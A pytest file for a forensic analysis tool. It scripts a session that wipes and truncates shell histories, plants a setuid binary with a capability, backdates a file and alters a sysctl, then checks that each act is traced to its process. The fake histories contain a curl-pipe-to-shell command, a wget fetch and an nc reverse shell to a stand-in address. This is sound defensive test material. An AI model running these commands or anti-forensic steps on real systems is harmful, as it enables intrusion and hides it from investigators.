"""Deleted, replaced and re-permissioned files, recorded by the real sensor, reconstructed.

One recorded "login" (loginuid written, as pam_loginuid does) runs a shell that removes a
shell history with `rm`, swaps another for a symlink to /dev/null with `ln -sf` (a new
link renamed over it), empties a third with `truncate`, makes a copied binary setuid with
`chmod u+s` and gives it a capability with `setcap` (Debian libcap2-bin), sets a file's
times back with `touch -d`, and changes a harmless kernel knob with `sysctl -w`, restoring
it at once. The path-based calls are recorded with the directory the kernel resolved and
no inode; backtrack must still reach each acting process and the shell it came from, the
report must name it, and the JSON must say which edges were matched by name.
"""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from forensix.analysis.graph import Graph, TrackOptions, backtrack, node_key
from forensix.analysis.report import build_report
from forensix.analysis.targets import Target
from forensix.render.graph import render_graph
from forensix.render.report import render_markdown
from forensix.store.embedded import open_reader
from forensix.testing.scenario import record_login

pytestmark = pytest.mark.bpf

KNOB = Path("/proc/sys/vm/swappiness")

SESSION = """
cd {work}
echo 'curl http://203.0.113.9/x | sh' > {work}/rm/.bash_history
echo 'wget http://203.0.113.9/y' > {work}/ln/.bash_history
echo 'nc -e /bin/sh 203.0.113.9 4444' > {work}/tr/.bash_history
sleep 0.05
rm {work}/rm/.bash_history
ln -sf /dev/null {work}/ln/.bash_history
truncate -s 0 {work}/tr/.bash_history
cp /bin/true {work}/suid
chmod u+s {work}/suid
setcap cap_net_raw+ep {work}/suid
echo stamp > {work}/stamp
touch -d 2001-01-01T00:00:00Z {work}/stamp
v=$(cat {knob})
sysctl -q -w vm.swappiness=$((v == 100 ? 99 : v + 1))
sysctl -q -w vm.swappiness=$v
"""


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    for tool in ("setcap", "sysctl", "truncate"):
        assert shutil.which(tool), f"{tool} is missing: scripts/setup.sh installs it"
    work = tmp_path_factory.mktemp("lives")
    for d in ("rm", "ln", "tr"):
        (work / d).mkdir()
    (work / "session.sh").write_text(SESSION.format(work=work, knob=KNOB))
    store = work / "case.duckdb"
    knob = KNOB.read_text()
    try:
        r = record_login(store, work / "session.sh", 4343)
        assert r.returncode == 0, r.stderr
    finally:
        KNOB.write_text(knob)  # restored by the script; again here should it have failed half-way
    assert (work / "ln" / ".bash_history").is_symlink() and not (work / "rm" / ".bash_history").exists()
    rd = open_reader(store)
    shells = rd.query("SELECT DISTINCT entity_id FROM processes WHERE list_contains(args, $s) AND source = 'exec'",
                      {"s": f"{work}/session.sh"}).column("entity_id").to_pylist()
    assert len(shells) == 1, shells
    yield {"reader": rd, "work": work, "store": str(store), "shell": shells[0]}


def _by(g: Graph, exe: str) -> list[str]:
    return [n.key for n in g.node_by("process") if n.attrs.get("executable") == exe]


def _check(rec: dict[str, Any], g: Graph, exe: str, kinds: set[str], by_name: bool) -> str:
    """The acting process is in the graph with these edges into the target, and the shell
    that started it is its origin."""
    acting = _by(g, exe)
    assert len(acting) == 1, (exe, [n.label for n in g.node_by("process")])
    into = {e.kind: e for e in g.edges if e.src == acting[0] and e.dst in g.roots}
    assert kinds <= set(into), (exe, sorted(into))
    assert all(into[k].name_matched == by_name for k in kinds), [(k, into[k].name_matched) for k in kinds]
    shell = node_key("process", rec["shell"])
    assert any(e.src == shell and e.dst == acting[0] and e.kind == "fork" for e in g.edges)
    return acting[0]


def _report_names(rec: dict[str, Any], path: str, exe: str) -> str:
    rep = build_report(rec["reader"], Target("file", path=path))
    md = io.StringIO()
    render_markdown(rep, md)
    text = md.getvalue()
    name = exe.rsplit("/", 1)[-1]
    assert f"| Acting process | {name} [" in text, text[:1500]
    assert "| — |" not in text
    return text


def _json_edges(g: Graph) -> list[dict[str, Any]]:
    out = io.StringIO()
    render_graph(g, "json", out)
    return list(json.loads(out.getvalue())["edges"])


def test_history_removed_by_rm(recorded: dict[str, Any]) -> None:
    path = f"{recorded['work']}/rm/.bash_history"
    g = backtrack(recorded["reader"], Target("file", path=path))
    _check(recorded, g, "/usr/bin/rm", {"unlink"}, by_name=True)
    assert g.life is not None and g.life["ended_by"] == "unlink" and g.life.get("file_inode")
    # echo is a builtin: the shell itself wrote the history, through its inode
    shell = node_key("process", recorded["shell"])
    assert {"write"} <= {e.kind for e in g.edges if e.src == shell and e.dst in g.roots and not e.name_matched}
    assert [e["kind"] for e in _json_edges(g) if e["name_matched"]] == ["unlink"]
    _report_names(recorded, path, "/usr/bin/rm")


def test_history_replaced_by_a_symlink_to_dev_null(recorded: dict[str, Any]) -> None:
    path = f"{recorded['work']}/ln/.bash_history"
    r = recorded["reader"]
    last = backtrack(r, Target("file", path=path))  # the symlink ln put there
    assert last.life is not None and last.life["life"] == last.life["lives"] == 2
    _check(recorded, last, "/usr/bin/ln", {"rename"}, by_name=True)
    first = backtrack(r, Target("file", path=path), TrackOptions(at=last.life["start_ts"] - 1))
    assert first.life is not None and first.life["ended_by"] == "renamed-over" and first.life.get("file_inode")
    _check(recorded, first, "/usr/bin/ln", {"renamed-over"}, by_name=True)
    assert "renamed-over" in {e["kind"] for e in _json_edges(first) if e["name_matched"]}
    _report_names(recorded, path, "/usr/bin/ln")


def test_history_emptied_by_truncate(recorded: dict[str, Any]) -> None:
    path = f"{recorded['work']}/tr/.bash_history"
    g = backtrack(recorded["reader"], Target("file", path=path))
    acting = _by(g, "/usr/bin/truncate")
    assert acting, [n.label for n in g.node_by("process")]
    kinds = {e.kind for e in g.edges if e.src == acting[0]}
    assert "truncate" in kinds, kinds  # ftruncate on its descriptor: kernel-resolved
    assert any(e.src == node_key("process", recorded["shell"]) and e.dst == acting[0] for e in g.edges)
    _report_names(recorded, path, "/usr/bin/truncate")


def test_binary_made_setuid_and_given_a_capability(recorded: dict[str, Any]) -> None:
    path = f"{recorded['work']}/suid"
    g = backtrack(recorded["reader"], Target("file", path=path))
    _check(recorded, g, "/usr/bin/chmod", {"chmod"}, by_name=True)
    _check(recorded, g, "/usr/sbin/setcap", {"setxattr"}, by_name=True)
    _check(recorded, g, "/usr/bin/cp", {"write"}, by_name=False)
    assert len(g.node_by("file")) >= 1 and len([n for n in g.node_by("file") if n.key in g.roots]) == 1
    by_name = {(e["src_label"].split(" ")[0], e["kind"]) for e in _json_edges(g) if e["name_matched"]}
    assert {("chmod", "chmod"), ("setcap", "setxattr")} <= by_name, by_name
    assert not any(e["name_matched"] for e in _json_edges(g) if e["src_label"].startswith("cp "))
    text = _report_names(recorded, path, "/usr/sbin/setcap")
    assert "setuid/setgid bit" in text and "extended attribute" in text and "chmod" in text


def test_times_set_back_by_touch(recorded: dict[str, Any]) -> None:
    path = f"{recorded['work']}/stamp"
    g = backtrack(recorded["reader"], Target("file", path=path))
    _check(recorded, g, "/usr/bin/touch", {"utimes"}, by_name=False)  # touch sets times through its fd
    assert "times set back" in _report_names(recorded, path, "/usr/bin/touch")


def test_sysctl_write_is_not_noise(recorded: dict[str, Any]) -> None:
    r = recorded["reader"]
    ours = set(r.query("SELECT entity_id FROM processes WHERE parent_entity_id = $s AND image_seq = 0",
                       {"s": recorded["shell"]}).column("entity_id").to_pylist())
    g = backtrack(r, Target("file", path=str(KNOB)))  # default noise filters
    writers = [n for n in g.node_by("process")
               if n.attrs.get("executable") == "/usr/sbin/sysctl" and n.attrs["entity_id"] in ours]
    assert len(writers) == 2, [n.label for n in g.node_by("process")]
    assert all(any(e.src == w.key and e.kind == "write" for e in g.edges) for w in writers)
    shell = node_key("process", recorded["shell"])
    assert all(any(e.src == shell and e.dst == w.key and e.kind == "fork" for e in g.edges) for w in writers)
    into = [e for e in _json_edges(g) if e["dst"] in g.roots]
    assert into and not any(e["name_matched"] for e in into)  # written through an open file: by inode
    _report_names(recorded, str(KNOB), "/usr/sbin/sysctl")
    rep = build_report(r, Target("session", session=f"{recorded['shell']:016x}"))
    assert "kernel parameter (sysctl)" in rep.persistence.column("what").to_pylist()


def test_unknown_path_exits_3_with_the_nearest_matches(recorded: dict[str, Any]) -> None:
    r = subprocess.run(
        [sys.executable, "-c", "from forensix.cli.main import main; main()", "backtrack", "--store",
         recorded["store"], f"{recorded['work']}/nowhere/.bash_history"],
        capture_output=True, text=True, timeout=60, check=False)
    assert r.returncode == 3, r.stderr
    assert f"near: same name elsewhere: {recorded['work']}/rm/.bash_history" in r.stderr
    assert "near: the record spans" in r.stderr
